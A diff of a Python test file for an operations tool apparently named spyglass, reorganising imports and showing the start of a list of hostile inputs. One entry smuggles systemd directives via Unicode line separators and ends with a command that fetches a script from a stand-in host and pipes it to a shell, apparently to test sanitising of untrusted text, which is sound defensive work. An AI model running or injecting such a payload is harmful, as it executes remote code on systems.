@@ -9,8 +9,11 @@ import sys
 
 import pytest
 
-from spyglass.ops import app_status, command_table, systemctl, untrusted_text
+from spyglass.ops import command_table
 from spyglass.ops.doctor_checks import units as unit_checks
+from spyglass.ops.output import untrusted_text
+from spyglass.ops.status import app_status
+from spyglass.ops.systemd import systemctl
 
 HOSTILE = [
     "failing: RuntimeError: x\u2028WantedBy=multi-user.target\u2028Id=spyglass@a; curl -s http://evil.example/x | sh #",
